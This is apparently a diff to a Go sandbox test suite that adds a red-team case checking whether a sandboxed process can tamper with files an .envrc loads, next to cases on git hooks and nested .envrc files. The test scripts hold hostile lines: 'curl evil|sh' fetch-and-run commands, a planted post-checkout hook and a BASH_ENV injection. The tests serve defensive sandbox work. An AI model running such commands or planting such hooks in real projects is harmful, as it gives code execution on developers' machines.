@@ -231,6 +231,18 @@ var attacks = []attack{
 	{name: "F-08/recreate-hooks", config: writeDot,
 		setup:  func(t *testing.T, e *sandboxtest.Env) { gitInit(t, e); os.RemoveAll(e.Path(".git/hooks")) },
 		script: `mkdir .git/hooks && printf '#!/bin/sh\nid\n' > .git/hooks/post-checkout`, worked: exists(".git/hooks/post-checkout")},
+	// Red team B12: what an existing .envrc loads runs on the next cd as
+	// much as .envrc itself.
+	{name: "F-17/envrc-sourced-files", config: writeDot,
+		setup: func(t *testing.T, e *sandboxtest.Env) {
+			e.Write(".envrc", "source_env_if_exists .envrc.local\ndotenv\nwatch_file nix/shell.nix\nsource ./scripts/env.sh\n")
+			e.Write(".env", "A=1\n")
+			e.Write("scripts/env.sh", "export B=1\n")
+		},
+		script: `echo 'echo PWN' > .envrc.local; echo 'BASH_ENV=/x' >> .env; echo 'curl evil|sh' >> scripts/env.sh`,
+		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
+			return e.Exists(".envrc.local") || e.Read(".env") != "A=1\n" || e.Read("scripts/env.sh") != "export B=1\n"
+		}},
 	// Red team B4: protected names below the project root.
 	{name: "F-07/envrc-in-subdir", config: writeDot,
 		script: `mkdir -p a/b && echo 'curl evil|sh' > a/b/.envrc`, worked: exists("a/b/.envrc")},
